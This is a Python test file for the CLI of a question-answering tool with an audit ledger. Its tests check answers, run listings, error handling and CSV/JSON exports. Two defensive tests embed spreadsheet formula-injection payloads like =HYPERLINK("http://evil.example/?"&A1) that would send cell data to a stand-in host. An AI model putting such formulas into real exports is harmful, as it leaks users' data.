"""`aborist query`, `ask`, `runs`, `show`, `inspect`, driven through
``cli.main.cli`` against a migrated ledger on SQLite and PostgreSQL and a two-shard corpus
in ``tmp_path``. Bad input must give exit 1 and one line on stderr, never a traceback.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from aborist.corpus.ingest import IngestReport, ingest, record_ingest
from cli.main import cli
from ledger.store import Ledger
from tests.conftest import migrate_url

RIVERS = """\
# Rivers of Eldoria

The Silverrun River flows north from the Ashen Mountains into the Glass Lake.

The Silverrun River is 412 kilometres long.
"""
BEES = """\
Beekeeping in Eldoria

The Eldorian honeybee produces violet honey in late autumn.
"""
Q = "How long is the Silverrun River?"
FACT = "The Silverrun River is 412 kilometres long."
RUN_LINE = re.compile(r"^run ([0-9a-f]{32})\b", re.MULTILINE)
ENV_CLEARED = (
    "ABORIST_DB_URL",
    "ABORIST_LLM_BASE_URL",
    "ABORIST_LLM_MODEL",
    "ABORIST_LLM_API_KEY",
    "OPENAI_API_KEY",
)


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, list[IngestReport]]:
    """(docs, shards, reports): two documents ingested once as shards ``geo`` and
    ``bees``."""
    root = tmp_path_factory.mktemp("cli-corpus")
    docs = root / "docs"
    docs.mkdir()
    (docs / "rivers.md").write_text(RIVERS, encoding="utf-8")
    (docs / "bees.txt").write_text(BEES, encoding="utf-8")
    shards = root / "shards"
    reports = [
        ingest([docs / "rivers.md"], "geo", shards_dir=shards),
        ingest([docs / "bees.txt"], "bees", shards_dir=shards),
    ]
    return docs, shards, reports


@pytest.fixture(scope="module")
def built(ingested: tuple[Path, Path, list[IngestReport]]) -> tuple[Path, Path]:
    return ingested[0], ingested[1]


@pytest.fixture
def ledger_url(empty_url: str, ingested: tuple[Path, Path, list[IngestReport]]) -> str:
    """A migrated ledger of each backend in which the two shards' ingests are recorded
    (a query may only read shards its ledger recorded)."""
    migrate_url(empty_url)
    with Ledger.open(empty_url) as lg:
        for report in ingested[2]:
            record_ingest(lg, report)
    return empty_url


@pytest.fixture
def bare_home(
    built: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """ABORIST_HOME under tmp_path (no ledger yet), ABORIST_SHARD_DIR a private copy of the
    two shards, no model endpoint configured. Yields the (shared, read-only) documents
    directory."""
    docs, shards = built
    copy = tmp_path / "shards"
    shutil.copytree(shards, copy)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("ABORIST_HOME", str(home))
    monkeypatch.setenv("ABORIST_SHARD_DIR", str(copy))
    for name in ENV_CLEARED:
        monkeypatch.delenv(name, raising=False)
    yield docs


@pytest.fixture
def home(bare_home: Path, tmp_path: Path, ingested: tuple[Path, Path, list[IngestReport]]) -> Path:
    """:func:`bare_home` with its embedded ledger created and the two shards' ingests
    recorded in it (a query may only read shards its ledger recorded)."""
    url = f"sqlite:///{tmp_path / 'home' / 'ledger.db'}"
    migrate_url(url)
    with Ledger.open(url) as lg:
        for report in ingested[2]:
            record_ingest(lg, report)
    return bare_home


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def ok(result: Result) -> Result:
    assert result.exit_code == 0, (result.output, result.exception)
    return result


def fails_cleanly(result: Result, *needles: str) -> str:
    """Exit 1, one line on stderr (click's "Error: ..."), no traceback anywhere."""
    assert result.exit_code == 1, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: "), lines
    for needle in needles:
        assert needle in lines[0], lines[0]
    return lines[0]


def run_id_of(result: Result) -> str:
    m = RUN_LINE.search(result.stdout)
    assert m, result.stdout
    return m.group(1)


def test_every_command_has_help_with_an_example() -> None:
    for command in ("query", "ask", "runs", "show", "inspect"):
        result = ok(invoke(command, "--help"))
        assert "Example:" in result.output, command


def test_query_prints_answer_sources_audit_mode_and_run_id(home: Path, ledger_url: str) -> None:
    result = ok(invoke("query", Q, "--db", ledger_url))
    out = result.stdout
    assert out.splitlines()[0] == f"{FACT} [E1]"
    assert "\nSources:\n" in out
    assert "[E1] Rivers of Eldoria" in out
    assert (home / "rivers.md").resolve().as_uri() in out
    assert FACT in out.split("Sources:", 1)[1]  # the spotlight excerpt
    assert re.search(r"^STRICT · rung 1/4 ", out, re.MULTILINE), out
    rid = run_id_of(result)
    assert "cache hit" not in out

    again = ok(invoke("query", Q, "--db", ledger_url))
    assert f"(cache hit: answer of run {rid})" in again.stdout
    assert run_id_of(again) != rid
    assert again.stdout.splitlines()[0] == f"{FACT} [E1]"


def test_query_json_has_the_documented_keys(home: Path, ledger_url: str) -> None:
    data = json.loads(ok(invoke("query", Q, "--db", ledger_url, "--json")).stdout)
    for key in ("run_id", "cache_key", "cache_hit", "question", "answer", "audit_mode",
                "label", "run_dag_root", "evidence"):  # fmt: skip
        assert key in data, key
    assert data["question"] == Q and data["cache_hit"] is False
    assert data["answer"] == f"{FACT} [E1]"
    assert (data["audit_mode"], data["label"]) == ("STRICT", "VERIFIED")
    assert re.fullmatch(r"[0-9a-f]{64}", data["cache_key"])
    assert re.fullmatch(r"[0-9a-f]{64}", data["run_dag_root"])
    [first, *_] = data["evidence"]
    assert set(first) >= {"pointer_id", "evidence_id", "source_uri", "title", "text"}
    assert first["pointer_id"] == "E1" and FACT in first["text"]

    hit = json.loads(ok(invoke("query", Q, "--db", ledger_url, "--json")).stdout)
    assert hit["cache_hit"] is True and hit["served_from_run_id"] == data["run_id"]
    assert (hit["cache_key"], hit["answer"]) == (data["cache_key"], data["answer"])
    assert hit["evidence"] == data["evidence"]

    quote = json.loads(
        ok(
            invoke(
                "query",
                Q,
                "--db",
                ledger_url,
                "--json",
                "--mode",
                "quote",
                "--shard",
                "geo",
                "--no-cache",
            )
        ).stdout
    )
    assert quote["cache_hit"] is False and quote["mode"] == "quote"
    assert quote["answer"] == f'"{FACT}" [E1]'
    assert quote["cache_key"] != data["cache_key"]


def test_ask_answers_from_one_file(home: Path, ledger_url: str) -> None:
    doc = home / "bees.txt"
    question = "What honey does the Eldorian honeybee produce?"
    data = json.loads(ok(invoke("ask", str(doc), question, "--db", ledger_url, "--json")).stdout)
    assert data["answer"] == "The Eldorian honeybee produces violet honey in late autumn. [E1]"
    assert data["audit_mode"] == "STRICT"
    assert [e["source_uri"] for e in data["evidence"]] == [doc.resolve().as_uri()]
    shown = json.loads(ok(invoke("show", data["run_id"], "--db", ledger_url, "--json")).stdout)
    started = shown["events"][0]["payload"]
    assert started["kind"] == "ask" and started["document"] == str(doc.resolve())


def test_runs_show_and_inspect(home: Path, ledger_url: str) -> None:
    first = json.loads(ok(invoke("query", Q, "--db", ledger_url, "--json")).stdout)
    second = json.loads(
        ok(invoke("query", Q, "--db", ledger_url, "--json", "--mode", "quote")).stdout
    )

    listing = ok(invoke("runs", "--db", ledger_url)).stdout.splitlines()
    assert [line.split()[0] for line in listing] == [second["run_id"], first["run_id"]]
    assert "completed" in listing[0] and "STRICT" in listing[0] and Q in listing[0]
    newest = ok(invoke("runs", "--db", ledger_url, "--limit", "1")).stdout.splitlines()
    assert [line.split()[0] for line in newest] == [second["run_id"]]
    as_json = json.loads(ok(invoke("runs", "--db", ledger_url, "--json")).stdout)
    assert [r["run_id"] for r in as_json["runs"]] == [second["run_id"], first["run_id"]]
    assert {r["status"] for r in as_json["runs"]} == {"completed"}

    show = ok(invoke("show", first["run_id"], "--db", ledger_url)).stdout
    assert show.startswith(f"run {first['run_id']}: completed, claim-lattice mode")
    for event in ("qa.run_started", "qa.cache_checked", "qa.retrieval_completed",
                  "qa.evidence_mapped", "qa.prompt_built", "qa.model_answered",
                  "qa.claims_parsed", "qa.answer_verified", "qa.answer_rendered",
                  "qa.answer_labelled", "qa.cache_written", "qa.run_completed"):  # fmt: skip
        assert event in show, event
    assert f"run DAG (9 stages), root {first['run_dag_root']}" in show
    for stage in ("question", "retrieval", "evidence_map", "prompt", "raw_answer",
                  "parsed_claim_lattice", "verify", "render", "final_label"):  # fmt: skip
        assert re.search(rf"^  {stage}\s+stage [0-9a-f]{{16}}  node ", show, re.MULTILINE), stage
    quote_show = ok(invoke("show", second["run_id"][:10], "--db", ledger_url)).stdout
    assert f"run {second['run_id']}: completed, quote mode" in quote_show
    assert "run DAG (8 stages)" in quote_show and "qa.context_assembled" in quote_show

    inspected = ok(invoke("inspect", first["run_id"], "--db", ledger_url)).stdout
    assert inspected.startswith(f"run {first['run_id']}: STRICT")
    assert "nothing to diagnose" in inspected
    report = json.loads(ok(invoke("inspect", first["run_id"], "--db", ledger_url, "--json")).stdout)
    assert report["run_id"] == first["run_id"] and report["audit_mode"] == "STRICT"
    assert report["diagnoses"] == []

    fails_cleanly(invoke("show", "0" * 32, "--db", ledger_url), "no run")
    fails_cleanly(invoke("show", first["run_id"][:4], "--db", ledger_url), "at least 6 characters")
    shown = ok(invoke("show", first["run_id"][:6], "--db", ledger_url)).stdout
    assert shown.startswith(f"run {first['run_id']}: ")
    fails_cleanly(invoke("inspect", "0" * 32, "--db", ledger_url), "no run")

    # A cache-served run has no model answer of its own, and no DAG of its own.
    hit = json.loads(ok(invoke("query", Q, "--db", ledger_url, "--json")).stdout)
    assert hit["served_from_run_id"] == first["run_id"]
    fails_cleanly(invoke("inspect", hit["run_id"], "--db", ledger_url), "no model answer")
    hit_show = ok(invoke("show", hit["run_id"], "--db", ledger_url)).stdout
    assert hit_show.startswith(f"run {hit['run_id']}: cached")
    assert "run DAG" not in hit_show


def test_unanswerable_and_hostile_questions(home: Path, ledger_url: str) -> None:
    question = "What is the population of the capital city of Mars?"
    data = json.loads(ok(invoke("query", question, "--db", ledger_url, "--json")).stdout)
    assert data["audit_mode"] == "UNGROUNDED" and data["label"] != "VERIFIED"
    # FTS5 syntax in a question is text to search for, never a query-language error.
    hostile = 'NEAR("x" AND) * col: ('
    data = json.loads(ok(invoke("query", hostile, "--db", ledger_url, "--json")).stdout)
    assert data["question"] == hostile
    assert data["audit_mode"] != "STRICT"


def test_bad_input_exits_1_with_one_line(home: Path, ledger_url: str, tmp_path: Path) -> None:
    fails_cleanly(invoke("query", "", "--db", ledger_url), "empty")
    fails_cleanly(invoke("query", "   ", "--db", ledger_url), "empty")
    fails_cleanly(invoke("query", Q, "--shard", "nosuch", "--db", ledger_url), "nosuch")
    fails_cleanly(invoke("ask", str(home / "absent.md"), Q, "--db", ledger_url), "absent.md")
    fails_cleanly(invoke("ask", str(home / "rivers.md"), "", "--db", ledger_url), "empty")
    fails_cleanly(
        invoke("query", Q, "--model", "openai", "--db", ledger_url), "ABORIST_LLM_BASE_URL"
    )
    empty = tmp_path / "empty.md"
    empty.write_text("", encoding="utf-8")
    fails_cleanly(invoke("ask", str(empty), Q, "--db", ledger_url), "nothing ingested")

    # The missing shard was a run, recorded as failed at the cache stage.
    runs = json.loads(ok(invoke("runs", "--db", ledger_url, "--json")).stdout)["runs"]
    assert [(r["status"], r["failed_stage"]) for r in runs] == [("failed", "cache")]


def test_unreachable_model_server_fails_cleanly(
    home: Path, ledger_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aborist.clients.http import HTTPChatClient

    # Only the wait between the three attempts is skipped; the attempts still happen.
    monkeypatch.setattr(HTTPChatClient, "_delay", lambda self, attempt, retry_after: 0.0)
    args = ["--model", "openai", "--base-url", "http://127.0.0.1:1/v1", "--llm-model", "x"]
    line = fails_cleanly(invoke("query", Q, "--db", ledger_url, *args))
    assert "127.0.0.1:1" in line
    [run] = json.loads(ok(invoke("runs", "--db", ledger_url, "--json")).stdout)["runs"]
    assert (run["status"], run["failed_stage"]) == ("failed", "model")
    assert run["error"].startswith("ModelError: ")


def test_unmigrated_database_fails_cleanly(home: Path, empty_url: str) -> None:
    for args in (["query", Q], ["runs"], ["show", "0" * 32]):
        fails_cleanly(invoke(*args, "--db", empty_url), "migrate")


def test_default_sqlite_ledger_under_aborist_home(bare_home: Path, tmp_path: Path) -> None:
    """Without --db the ledger is ABORIST_HOME/ledger.db, created and migrated on first use
    (no migrate step), 0600; the ingest is recorded there, and a query finds it."""
    db = tmp_path / "home" / "ledger.db"
    assert not db.exists()
    ok(invoke("ingest", str(bare_home / "rivers.md"), "--shard", "geo"))
    ok(invoke("ingest", str(bare_home / "bees.txt"), "--shard", "bees"))
    assert db.is_file() and (db.stat().st_mode & 0o777) == 0o600
    first = run_id_of(ok(invoke("query", Q)))
    assert db.is_file() and (db.stat().st_mode & 0o777) == 0o600
    ok(invoke("query", Q))
    listed = ok(invoke("runs", "--json"))
    assert first in {r["run_id"] for r in json.loads(listed.stdout)["runs"]}


def test_runs_on_an_empty_ledger(home: Path, ledger_url: str) -> None:
    result = ok(invoke("runs", "--db", ledger_url))
    assert result.stdout == ""
    assert result.stderr.strip() == "no runs yet"


def test_failed_and_interrupted_runs_are_listed_and_shown(home: Path, ledger_url: str) -> None:
    from aborist.pipeline.query import query
    from aborist.projections import open_ledger
    from tests.eldoria import Interrupting

    fails_cleanly(invoke("query", Q, "--shard", "nosuch", "--db", ledger_url))
    with open_ledger(ledger_url) as lg, pytest.raises(KeyboardInterrupt):
        query(Q, ledger=lg, client=Interrupting(), shards_dir=Path(os.environ["ABORIST_SHARD_DIR"]))

    runs = json.loads(ok(invoke("runs", "--db", ledger_url, "--json")).stdout)["runs"]
    assert [(r["status"], r["failed_stage"], r["stopped_after"]) for r in runs] == [
        ("started", None, "qa.prompt_built"),
        ("failed", "cache", None),
    ]
    assert [r["cache_hit"] for r in runs] == [False, False]  # a JSON bool on both backends
    interrupted, failed = (r["run_id"] for r in runs)
    listing = ok(invoke("runs", "--db", ledger_url)).stdout.splitlines()
    assert listing[0].split()[:5] == [
        interrupted,
        runs[0]["started_at"],
        "incomplete",
        "after",
        "qa.prompt_built",
    ]
    assert listing[1].split()[:5] == [failed, runs[1]["started_at"], "failed", "failed", "at"]

    shown = ok(invoke("show", interrupted, "--db", ledger_url)).stdout
    assert shown.startswith(f"run {interrupted}: incomplete, claim-lattice mode")
    assert "qa.prompt_built" in shown and "qa.model_answered" not in shown
    assert "run DAG" not in shown
    shown = ok(invoke("show", failed, "--db", ledger_url)).stdout
    assert shown.startswith(f"run {failed}: failed, claim-lattice mode")
    assert "failed at cache: CorpusError: no shard named 'nosuch'" in shown
    fails_cleanly(invoke("inspect", interrupted, "--db", ledger_url), "no model answer")


# -- a newcomer's first hour ------------------------------------------------------------


@pytest.mark.parametrize(
    ("question", "needle"),
    [
        ("???", "only punctuation"),
        ("what is the", "only common words"),
        ("x" * 10_001, "the limit is 10,000"),
        ("caf\udcc3", "not valid text: character 4 is the byte 0xC3, which is not UTF-8"),
    ],
)
def test_questions_that_cannot_be_answered_are_refused_clearly(
    home: Path, question: str, needle: str
) -> None:
    fails_cleanly(invoke("query", question), needle)
    assert "no runs yet" in invoke("runs").stderr  # refused before any event


def test_json_errors_are_a_json_object_on_stdout_too(home: Path) -> None:
    result = invoke("query", "???", "--json")
    line = fails_cleanly(result, "only punctuation")
    assert json.loads(result.stdout) == {"error": "InputError", "detail": line[len("Error: ") :]}
    bad = invoke("show", "nosuchrun", "--json")
    assert set(json.loads(bad.stdout)) == {"error", "detail"} and bad.exit_code == 1
    usage = invoke("runs", "--json", "--format", "csv")
    assert usage.exit_code == 2
    assert json.loads(usage.stdout)["error"] == "UsageError"
    plain = invoke("query", "???")
    assert plain.stdout == ""  # without --json, nothing on stdout


def test_query_marks_each_claim_and_show_puts_the_answer_first(home: Path) -> None:
    out = ok(invoke("query", Q)).stdout
    assert f"Claims:\n  ✓ verified [E1]: {FACT}\n      - " in out  # and the reason
    shown = ok(invoke("show", run_id_of(ok(invoke("query", "Who founded Brackwater?")))))
    text = shown.stdout
    assert text.index("answer:") < text.index("events:") < text.index("run DAG")
    assert "rung" in text[: text.index("events:")]


def _three_runs() -> dict[str, str]:
    ids = {
        "verified": run_id_of(ok(invoke("query", Q))),
        "unsupported": run_id_of(ok(invoke("query", "What colour is the moon of Mars?"))),
    }
    fails_cleanly(invoke("query", Q, "--shard", "nosuch"))
    return ids


def test_runs_filters(home: Path) -> None:
    ids = _three_runs()

    def listed(*args: str) -> list[dict[str, Any]]:
        return list(json.loads(ok(invoke("runs", "--json", *args)).stdout)["runs"])

    assert [r["run_id"] for r in listed("--label", "verified")] == [ids["verified"]]
    assert [r["run_id"] for r in listed("--audit-mode", "UNGROUNDED")] == [ids["unsupported"]]
    assert [r["status"] for r in listed("--status", "failed")] == ["failed"]
    assert {r["run_id"] for r in listed("--grep", "SILVERRUN")} >= {ids["verified"]}
    assert all("silverrun" in r["question"].lower() for r in listed("--grep", "silverrun"))
    assert listed("--grep", "100%_") == []  # LIKE wildcards are matched literally
    assert len(listed("--since", "2000-01-01")) == 3
    assert listed("--since", "2999-01-01T00:00") == []
    fails_cleanly(invoke("runs", "--since", "yesterday"), "ISO date")
    assert ok(invoke("runs", "--label", "PARTIAL")).stderr.strip() == "no runs match"


def test_runs_json_and_exports_carry_the_answer_and_sources(home: Path) -> None:
    import csv
    import io

    ids = _three_runs()
    ok(invoke("query", Q))  # a cache hit: its answer is the served run's
    runs = json.loads(ok(invoke("runs", "--json")).stdout)["runs"]
    by_id = {r["run_id"]: r for r in runs}
    assert FACT in by_id[ids["verified"]]["answer"]
    hit = runs[0]
    assert hit["cache_hit"] and hit["answer"] == by_id[ids["verified"]]["answer"]
    assert hit["citations"][0]["source_uri"].endswith("rivers.md")
    lines = ok(invoke("runs", "--format", "jsonl")).stdout.splitlines()
    rows = [json.loads(line) for line in lines]
    assert len(rows) == 4 and set(rows[0]) == {
        "run_id", "started_at", "status", "audit_mode", "label", "question", "answer", "sources",
    }  # fmt: skip
    assert rows[0]["sources"][0]["pointer_id"] == "E1"
    table = list(csv.DictReader(io.StringIO(ok(invoke("runs", "--format", "csv")).stdout)))
    assert len(table) == 4
    assert table[0]["label"] == "VERIFIED" and FACT in table[0]["answer"]
    assert "E1 Rivers of Eldoria (file://" in table[0]["sources"]
    failed = next(r for r in table if r["status"] == "failed")
    assert failed["answer"] == "" and failed["sources"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start: str) -> None:
    from cli.runs_export import csv_cell

    assert csv_cell(f'{start}HYPERLINK("http://evil.example")') == (
        f'\'{start}HYPERLINK("http://evil.example")'
    )
    assert csv_cell(f"a {start}1") == f"a {start}1"  # only a leading character counts
    assert csv_cell(None) == "" and csv_cell("How long?") == "How long?"


def test_runs_csv_export_neutralises_a_formula_question(home: Path) -> None:
    import csv
    import io

    question = '=HYPERLINK("http://evil.example/?"&A1) How long is the Silverrun River?'
    ok(invoke("query", question))
    raw = ok(invoke("runs", "--format", "csv")).stdout
    table = list(csv.DictReader(io.StringIO(raw)))
    assert table[0]["question"] == "'" + question
    assert not any(v.startswith(("=", "+", "-", "@")) for row in table for v in row.values())
    jsonl = json.loads(ok(invoke("runs", "--format", "jsonl")).stdout.splitlines()[0])
    assert jsonl["question"] == question  # JSON Lines stays exact


def test_an_empty_model_reply_says_so(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from aborist.clients.base import ChatClient, ChatResult

    class Silent(ChatClient):
        kind = "silent"

        def _complete(self, messages: Any, *, temperature: float, max_tokens: Any) -> Any:
            return ChatResult(text="", model="silent")

        def _profile(self) -> dict[str, Any]:
            return {"model": "silent"}

    import cli.query_cmd

    monkeypatch.setattr(cli.query_cmd, "select_client", lambda *a, **k: Silent())
    out = ok(invoke("query", Q)).stdout
    assert "(no answer: the model returned no text)" in out
    assert "✗ NO_UNITS: the answer has no checkable text" in out and "UNGROUNDED" in out
